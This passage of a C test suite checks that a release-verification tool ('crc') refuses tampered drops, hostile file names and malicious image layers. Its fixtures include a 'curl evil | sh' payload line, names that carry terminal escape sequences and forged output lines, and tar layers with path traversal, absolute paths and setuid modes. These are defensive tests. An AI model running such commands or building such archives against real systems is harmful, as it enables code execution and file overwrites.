	cr_assert_eq(truncate(p, (off_t)2 << 20), 0);
	cr_assert_eq(check(&r, f.drop, 0, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 1, 1, 0);
	problem_starts(&r, 0, "SHA256SUMS", CRC_EVERIFY, "");
	cr_assert_str_eq(r.problems[0].msg, "too large: 2097152 bytes (crc writes one line per file)");
	cr_assert_neq(strncmp(r.problems[0].msg, "SHA256SUMS", 10), 0, "%s", r.problems[0].msg);
	crc_verify_report_free(&r);
	fixture_free(&f);
}

/* Only a regular file named manifest.yaml.sig is left to the caller's signature check: a directory of that
 * name, with anything in it, is a problem ("nothing unlisted may lie in the drop"). */
Test(verify, signature_name_that_is_a_directory_is_refused)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	fixture_init(&f);
	mkdir_(f.drop, "manifest.yaml.sig");
	puts_(f.drop, "manifest.yaml.sig/payload.sh", "curl evil | sh\n");
	cr_assert_eq(check(&r, f.drop, 0, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 1, 1, 0);
	problem_is(&r, 0, "manifest.yaml.sig", CRC_EVERIFY, "not a regular file (a signature is a file)");
	crc_verify_report_free(&r);
	fixture_free(&f);
}

/* Whether s holds a control byte (which would reach the terminal through crc verify's stderr). */
static int has_control(const char *s)
{
	for (; *s; s++)
		if ((unsigned char)*s < 0x20 || (unsigned char)*s == 0x7f)
			return 1;
	return 0;
}

/* Names that come from the untrusted drop (an unlisted file's name from readdir, an archive entry's path
 * and symlink target) reach problems escaped as \xNN: crc verify prints them ("crc: verify: <file>:
 * <msg>"), and a raw "\n" or "\x1b[" would forge lines or drive the terminal. */
Test(verify, hostile_names_reach_problems_escaped)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	char p[512];
	static const struct member m[] = {
		{"README", 'f', "x"},
		{"bin/\x1b[31mred\ncrc: verify: ok", 'f', "x"},
		{"lib/libnoa.so", 'l', "\x1b]0;pwned\x07"},
	};
	fixture_init(&f);
	puts_(f.drop, "evil\n\x1b[31mname", "x");
	join(p, sizeof p, f.drop, ART0);
	cr_assert_eq(unlink(p), 0);
	write_members(p, 0, m, 3);
	pin_archive_only(&f, 0);
	repin(&f);
	cr_assert_eq(check(&r, f.drop, 1, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
	cr_assert_geq(r.nproblems, 3);
	for (size_t i = 0; i < r.nproblems; i++) {
		cr_assert(!has_control(r.problems[i].file), "problem %zu: file with a control byte", i);
		cr_assert(!has_control(r.problems[i].msg), "problem %zu: message with a control byte: %s", i,
			  r.problems[i].msg);
	}
	crc_verify_report_free(&r);
	fixture_free(&f);
}

/* Gives the drop a template.yaml (as a Lambda drop has), pinned by template_sha256; listed in SHA256SUMS
 * when listed is set. */
#define TEMPLATE "Resources:\n  NoaArm64:\n    Type: AWS::Serverless::Function\n"
static void add_template(struct fixture *f, char tsha[CRC_SHA256_HEX], int listed)
{
	struct crc_buf b;
	struct crc_error err;
	char msha[CRC_SHA256_HEX];
	puts_(f->drop, "template.yaml", TEMPLATE);
	sha_text(tsha, TEMPLATE, strlen(TEMPLATE));
	f->m.template_sha256 = tsha;
	crc_buf_init(&b);
	cr_assert_eq(crc_manifest_write(&b, &f->m, &err), 0, "%s", err.msg);
	put(f->drop, "manifest.yaml", b.data, b.len, 0644);
	sha_text(msha, b.data, b.len);
	crc_buf_free(&b);
	const char *names[] = {art_names[0], art_names[1], "flags.txt", "manifest.yaml", "template.yaml"};
	const char *sums[] = {f->art_sha[0], f->art_sha[1], f->flags_sha, msha, tsha};
	crc_buf_init(&b);
	cr_assert_eq(crc_manifest_sha256sums(&b, names, sums, listed ? 5 : 4, &err), 0, "%s", err.msg);
	put(f->drop, "SHA256SUMS", b.data, b.len, 0644);
	crc_buf_free(&b);
}

/* template.yaml is checked like flags.txt: its hash, its presence, its line in SHA256SUMS. */
Test(verify, template_yaml_is_pinned_like_flags_txt)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	char tsha[CRC_SHA256_HEX], got[CRC_SHA256_HEX], want[256];
	fixture_init(&f);
	add_template(&f, tsha, 1);
	cr_assert_eq(check(&r, f.drop, 1, 0, 2, &err), 0, "%s", err.msg);
	counts(&r, 0, 0, 0);
	size_t k = 0;
	while (k < r.nfiles && strcmp(r.files[k].name, "template.yaml") != 0)
		k++;
	file_is(&r, k, "template.yaml", "template", 1);
	crc_verify_report_free(&r);

	flip(f.drop, "template.yaml", 5, 1);
	sha_of(got, NULL, f.drop, "template.yaml");
	sha_mismatch(want, sizeof want, tsha, got);
	cr_assert_eq(check(&r, f.drop, 0, 0, 2, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 1, 1, 0);
	problem_is(&r, 0, "template.yaml", CRC_EVERIFY, want);
	crc_verify_report_free(&r);

	unlink_(f.drop, "template.yaml");
	cr_assert_eq(check(&r, f.drop, 0, 0, 2, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 1, 1, 0);
	problem_is(&r, 0, "template.yaml", CRC_EVERIFY, "missing (manifest.yaml lists its sha256)");
	crc_verify_report_free(&r);

	/* Pinned by the manifest but left out of SHA256SUMS. */
	add_template(&f, tsha, 0);
	cr_assert_eq(check(&r, f.drop, 0, 0, 2, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 1, 1, 0);
	problem_is(&r, 0, "SHA256SUMS", CRC_EVERIFY, "does not list 'template.yaml'");
	crc_verify_report_free(&r);

	/* In the drop but not pinned: an extra file. */
	f.m.template_sha256 = NULL;
	repin(&f);
	cr_assert_eq(check(&r, f.drop, 0, 0, 2, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 1, 1, 0);
	problem_is(&r, 0, "template.yaml", CRC_EVERIFY, "not listed in manifest.yaml");
	crc_verify_report_free(&r);
	fixture_free(&f);
}

/* Gives the drop's first target an image, and the drop its layout under image/: three blobs standing for
 * the manifest, the layer (a real tar.gz of layer_tree, or of the target's staged tree when NULL, with its
 * diff_id) and the config, and the index, index.json and oci-layout rendered from the manifest
 * (crc_image_render_index), pinned under "files" and listed in SHA256SUMS. files[0] is the blob of
 * BLOB_TEXT (the manifest). */
#define BLOB_TEXT "{\"schemaVersion\": 2}\n"
#define IMAGE_FILES 6
struct image_fx {
	struct crc_manifest_file files[IMAGE_FILES];
	char hex[3][CRC_SHA256_HEX], diff_id[CRC_SHA256_HEX];
	struct crc_image_entry *e;
	size_t n;
};

/* Writes the layer of add_image into the drop's blobs, named by its hash: the tar.gz file layer when
 * given (moved there), else the target's staged tree packed by crc. */
static void add_layer(struct fixture *f, struct image_fx *x, const char *layer, unsigned long long *size)
{
	struct crc_archive_result res;
	struct crc_error err;
	char tmp[512], path[512], blob[512];
	unsigned long long raw;
	join(tmp, sizeof tmp, f->root, "layer.tar.gz");
	unlink(tmp);
	if (layer) {
		cr_assert_eq(rename(layer, tmp), 0, "%s", strerror(errno));
		sha_of(x->hex[1], size, f->root, "layer.tar.gz");
	} else {
		cr_assert_eq(crc_archive_write_tree(&res, tmp, f->tree[0], CRC_ARCHIVE_TAR_GZ, MTIME, &err),
			     0, "%s", err.msg);
		memcpy(x->hex[1], res.sha256, CRC_SHA256_HEX);
		*size = res.size;
		crc_archive_result_free(&res);
	}
	cr_assert_eq(crc_archive_stream_sha256(x->diff_id, &raw, tmp, CRC_ARCHIVE_TAR_GZ, &err), 0, "%s",
		     err.msg);
	snprintf(blob, sizeof blob, "image/blobs/sha256/%s", x->hex[1]);
	join(path, sizeof path, f->drop, blob);
	cr_assert_eq(rename(tmp, path), 0, "%s", strerror(errno));
}

static void write_image_manifest(struct fixture *f, struct image_fx *x);

static void add_image_of(struct fixture *f, struct image_fx *x, const char *layer)
{
	static const char *const blob_text[] = {BLOB_TEXT, NULL, "{}"};
	struct crc_error err;
	struct crc_image_index ix;
	char path[512];
	unsigned long long layer_size = 0;
	mkdir_(f->drop, "image");
	mkdir_(f->drop, "image/blobs");
	mkdir_(f->drop, "image/blobs/sha256");
	for (size_t i = 0; i < 3; i++) {
		if (!blob_text[i]) {
			add_layer(f, x, layer, &layer_size);
			continue;
		}
		sha_text(x->hex[i], blob_text[i], strlen(blob_text[i]));
		snprintf(path, sizeof path, "image/blobs/sha256/%s", x->hex[i]);
		puts_(f->drop, path, blob_text[i]);
	}
	struct crc_manifest_target *t = &f->targets[0];
	t->image.architecture = "amd64";
	t->image.manifest_sha256 = x->hex[0], t->image.manifest_size = strlen(blob_text[0]);
	t->image.layer_sha256 = x->hex[1], t->image.layer_size = layer_size;
	t->image.diff_id = x->diff_id;
	t->image.config_sha256 = x->hex[2], t->image.config_size = strlen(blob_text[2]);
	cr_assert_eq(crc_image_render_index(&ix, &f->m, &err), 0, "%s", err.msg);
	join(path, sizeof path, f->drop, "image");
	cr_assert_eq(crc_image_write_index(path, &ix, &err), 0, "%s", err.msg);
	cr_assert_eq(crc_image_layout_files(&x->e, &x->n, &f->m, &ix, &err), 0, "%s", err.msg);
	crc_image_index_free(&ix);
	cr_assert_eq(x->n, IMAGE_FILES);
	/* The manifest's blob first. */
	for (size_t i = 0, k = 1; i < x->n; i++) {
		size_t at = strstr(x->e[i].path, x->hex[0]) ? 0 : k++;
		x->files[at] = (struct crc_manifest_file){x->e[i].path, x->e[i].size, x->e[i].sha256};
	}
	f->m.files = x->files;
	f->m.nfiles = x->n;
	write_image_manifest(f, x);
}

/* Writes manifest.yaml and SHA256SUMS of a drop with the image of add_image. */
static void write_image_manifest(struct fixture *f, struct image_fx *x)
{
	struct crc_buf b;
	struct crc_error err;
	char msha[CRC_SHA256_HEX];
	crc_buf_init(&b);
	cr_assert_eq(crc_manifest_write(&b, &f->m, &err), 0, "%s", err.msg);
	put(f->drop, "manifest.yaml", b.data, b.len, 0644);
	sha_text(msha, b.data, b.len);
	crc_buf_free(&b);
	const char *names[4 + IMAGE_FILES] = {art_names[0], art_names[1], "flags.txt", "manifest.yaml"};
	const char *sums[4 + IMAGE_FILES] = {f->art_sha[0], f->art_sha[1], f->flags_sha, msha};
	for (size_t i = 0; i < x->n; i++)
		names[4 + i] = x->files[i].path, sums[4 + i] = x->files[i].sha256;
	crc_buf_init(&b);
	cr_assert_eq(crc_manifest_sha256sums(&b, names, sums, 4 + x->n, &err), 0, "%s", err.msg);
	put(f->drop, "SHA256SUMS", b.data, b.len, 0644);
	crc_buf_free(&b);
}

static void add_image(struct fixture *f, struct image_fx *x)
{
	add_image_of(f, x, NULL);
}

/* Files below image/ are checked one by one, and nothing unlisted may hide among them. */
Test(verify, listed_files_below_image_are_checked_and_nothing_extra_hides_there)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	struct image_fx x;
	char got[CRC_SHA256_HEX], want[256], cmd[512];
	fixture_init(&f);
	add_image(&f, &x);
	const char *const paths[] = {x.files[0].path}, *blob = x.hex[0];
	cr_assert_eq(check(&r, f.drop, 1, 0, 3, &err), 0, "%s", err.msg);
	counts(&r, 0, 0, 0);
	size_t k = 0;
	while (k < r.nfiles && strcmp(r.files[k].name, paths[0]) != 0)
		k++;
	file_is(&r, k, paths[0], "file", 1);
	crc_verify_report_free(&r);
	/* coreutils reads the same SHA256SUMS, paths and all. */
	snprintf(cmd, sizeof cmd, "cd %s && sha256sum --quiet -c SHA256SUMS", f.drop);
	cr_assert_eq(system(cmd), 0);

	/* A tampered blob. */
	flip(f.drop, paths[0], 2, 0);
	sha_of(got, NULL, f.drop, paths[0]);
	sha_mismatch(want, sizeof want, blob, got);
	cr_assert_eq(check(&r, f.drop, 0, 0, 3, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 1, 1, 0);
	problem_is(&r, 0, paths[0], CRC_EVERIFY, want);
	crc_verify_report_free(&r);
	flip(f.drop, paths[0], 2, 0);

	/* Something unlisted among the blobs, and a directory beside them. */
	puts_(f.drop, "image/blobs/sha256/planted", "x");
	mkdir_(f.drop, "image/extra");
	cr_assert_eq(check(&r, f.drop, 0, 0, 3, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 2, 2, 0);
	problem_is(&r, 0, "image/blobs/sha256/planted", CRC_EVERIFY, "not listed in manifest.yaml");
	problem_is(&r, 1, "image/extra", CRC_EVERIFY, "not listed in manifest.yaml");
	crc_verify_report_free(&r);
	unlink_(f.drop, "image/blobs/sha256/planted");
	char extra[256];
	join(extra, sizeof extra, f.drop, "image/extra");
	cr_assert_eq(rmdir(extra), 0);

	/* image/blobs swapped for a symlink to a copy elsewhere: never followed. */
	char from[256], to[256];
	join(from, sizeof from, f.drop, "image/blobs");
	join(to, sizeof to, f.other, "blobs");
	cr_assert_eq(rename(from, to), 0);
	cr_assert_eq(symlink(to, from), 0);
	cr_assert_eq(check(&r, f.drop, 0, 0, 3, &err), CRC_EVERIFY, "%s", err.msg);
	/* The four blobs, and image/blobs itself. */
	counts(&r, 5, 5, 0);
	problem_is(&r, 0, paths[0], CRC_EVERIFY, "lies below a symlink, not a directory (never followed)");
	problem_is(&r, 4, "image/blobs", CRC_EVERIFY, "not listed in manifest.yaml");
	crc_verify_report_free(&r);
	/* ... or for a file. */
	cr_assert_eq(unlink(from), 0);
	puts_(f.drop, "image/blobs", "not a directory");
	cr_assert_eq(check(&r, f.drop, 0, 0, 3, &err), CRC_EVERIFY, "%s", err.msg);
	problem_is(&r, 0, paths[0], CRC_EVERIFY, "lies below a file, not a directory (never followed)");
	crc_verify_report_free(&r);
	crc_image_entries_free(x.e, x.n);
	fixture_free(&f);
}

/* The index of the file at path in the report, or r->nfiles. */
static size_t file_index(const struct crc_verify_report *r, const char *path)
{
	size_t k = 0;
	while (k < r->nfiles && strcmp(r->files[k].name, path) != 0)
		k++;
	return k;
}

/* The deep check lists every image layer as an archive, in the read that hashes it, and checks its
 * decompressed stream against the manifest's diff_id: a shallow check cannot tell a wrong diff_id. */
Test(verify, deep_check_lists_image_layers_and_checks_their_diff_id)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	struct image_fx x;
	char want[512], layer[128];
	fixture_init(&f);
	add_image(&f, &x);
	snprintf(layer, sizeof layer, "image/blobs/sha256/%s", x.hex[1]);
	cr_assert_eq(check(&r, f.drop, 1, 0, 2, &err), 0, "%s", err.msg);
	size_t k = file_index(&r, layer);
	file_is(&r, k, layer, "file", 1);
	cr_assert_eq(r.files[k].entries, NENTRIES, "the layer's entries were listed");
	crc_verify_report_free(&r);
	/* A diff_id that is not the layer's. */
	char other[CRC_SHA256_HEX];
	memcpy(other, x.diff_id, sizeof other);
	other[0] = other[0] == 'a' ? 'b' : 'a';
	f.targets[0].image.diff_id = other;
	write_image_manifest(&f, &x);
	cr_assert_eq(check(&r, f.drop, 0, 0, 2, &err), 0, "the shallow check does not decompress: %s",
		     err.msg);
	crc_verify_report_free(&r);
	cr_assert_eq(check(&r, f.drop, 1, 0, 2, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 1, 1, 0);
	snprintf(want, sizeof want, "layer's decompressed stream has sha256 %s, the manifest's diff_id is %s",
		 x.diff_id, other);
	problem_is(&r, 0, layer, CRC_EVERIFY, want);
	crc_verify_report_free(&r);
	fixture_free(&f);
}

/* Layers crc did not write: the listing's refusals (a FIFO, a device, a path leaving the tree, an absolute
 * path, a hard link) and modes crc never gives (setuid, setgid, sticky, world-writable), each pinned in a
 * consistent manifest. */
Test(verify, deep_check_refuses_hostile_image_layers)
{
	static const struct {
		const char *make, *want;
	} cases[] = {
		{"mkfifo f && tar -cf - f",
		 "entry 'f': a fifo; only regular files, directories and symlinks are "
		 "allowed"},
		{"touch x && tar -cf - --transform 's,^x,../x,' x", "entry '../x': path contains '..'"},
		{"touch x && tar -cf - -P --transform 's,^x,/etc/x,' x", "entry '/etc/x': absolute path"},
		{"echo a >x && ln x y && tar -cf - x y", "entry 'y': hard link to 'x' (not allowed)"},
		{"echo a >x && tar -cf - --mode=4755 x", "entry 'x': mode 4755, which crc never writes"},
		{"echo a >x && tar -cf - --mode=2755 x", "entry 'x': mode 2755, which crc never writes"},
		{"mkdir d && tar -cf - --mode=1777 d", "entry 'd': mode 1777, which crc never writes"},
		{"echo a >x && tar -cf - --mode=0666 x", "entry 'x': mode 0666, which crc never writes"},
	};
	for (size_t c = 0; c < sizeof cases / sizeof cases[0]; c++) {
		struct fixture f;
		struct crc_verify_report r;
		struct crc_error err;
		struct image_fx x;
		char cmd[1024], layer[256], dir[256], name[128];
		fixture_init(&f);
		join(dir, sizeof dir, f.root, "layer-src");
		join(layer, sizeof layer, f.root, "hostile.tar.gz");
		cr_assert_eq(mkdir(dir, 0755), 0);
		snprintf(cmd, sizeof cmd, "cd %s && umask 022 && (%s) | gzip -n > %s", dir, cases[c].make,
			 layer);
		cr_assert_eq(system(cmd), 0, "%s", cmd);
		add_image_of(&f, &x, layer);
		snprintf(name, sizeof name, "image/blobs/sha256/%s", x.hex[1]);
		cr_assert_eq(check(&r, f.drop, 0, 0, 2, &err), 0, "%s: shallow: %s", cases[c].make, err.msg);
		crc_verify_report_free(&r);
		cr_assert_eq(check(&r, f.drop, 1, 0, 2, &err), CRC_EVERIFY, "%s", cases[c].make);
		counts(&r, 1, 1, 0);
		problem_starts(&r, 0, name, CRC_EVERIFY, cases[c].want);
		crc_verify_report_free(&r);
		fixture_free(&f);
	}
}

/* An index.json that names something else than the targets' images, though pinned, is refused: the
 * layout must be the one the manifest's targets describe. */
Test(verify, image_layout_must_be_the_one_the_targets_describe)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	struct image_fx x;
	struct crc_drop_sums sums;
	fixture_init(&f);
	add_image(&f, &x);
	unlink_(f.drop, "flags.txt");
	unlink_(f.drop, "manifest.yaml");
	unlink_(f.drop, "SHA256SUMS");
	/* Another index.json, pinned as it is. */
	static const char other[] = "{\"schemaVersion\":2,\"manifests\":[]}";
	char hex[CRC_SHA256_HEX];
	puts_(f.drop, "image/index.json", other);
	sha_text(hex, other, strlen(other));
	for (size_t i = 0; i < x.n; i++)
		if (strcmp(x.files[i].path, "image/index.json") == 0)
			x.files[i].sha256 = hex, x.files[i].size = strlen(other);
	cr_assert_eq(crc_drop_write_metadata(&sums, f.drop, &f.m, FLAGS, strlen(FLAGS), NULL, &err), 0, "%s",
		     err.msg);
	cr_assert_eq(check(&r, f.drop, 0, 0, 2, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 1, 1, 0);
	problem_is(
		&r, 0, "manifest.yaml", CRC_EVERIFY,
		"image/index.json is not what the targets' images make it (its index must name exactly their "
		"manifests)");
	crc_verify_report_free(&r);
	crc_image_entries_free(x.e, x.n);
	fixture_free(&f);
}

/* crc_drop_write_metadata (what crc build and crc merge write) lists the image files in SHA256SUMS, and
 * the drop it writes verifies, with sha256sum -c too. */
Test(verify, drop_metadata_lists_image_files)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	struct image_fx x;
	struct crc_drop_sums sums;
	char cmd[512];
	struct crc_buf b;
	fixture_init(&f);
	add_image(&f, &x);
	const char *const paths[] = {x.files[0].path}, *blob = x.hex[0];
	unlink_(f.drop, "flags.txt");
	unlink_(f.drop, "manifest.yaml");
	unlink_(f.drop, "SHA256SUMS");
	cr_assert_eq(crc_drop_write_metadata(&sums, f.drop, &f.m, FLAGS, strlen(FLAGS), NULL, &err), 0, "%s",
		     err.msg);
	cr_assert_eq(check(&r, f.drop, 1, 0, 2, &err), 0, "%s", err.msg);
	crc_verify_report_free(&r);
	crc_buf_init(&b);
	slurp(&b, f.drop, "SHA256SUMS");
	snprintf(cmd, sizeof cmd, "%s  %s\n", blob, paths[0]);
	cr_assert(strstr(crc_buf_str(&b), cmd), "%s", crc_buf_str(&b));
	crc_buf_free(&b);
	snprintf(cmd, sizeof cmd, "cd %s && sha256sum --quiet -c SHA256SUMS", f.drop);
	cr_assert_eq(system(cmd), 0);
	crc_image_entries_free(x.e, x.n);
	fixture_free(&f);
}
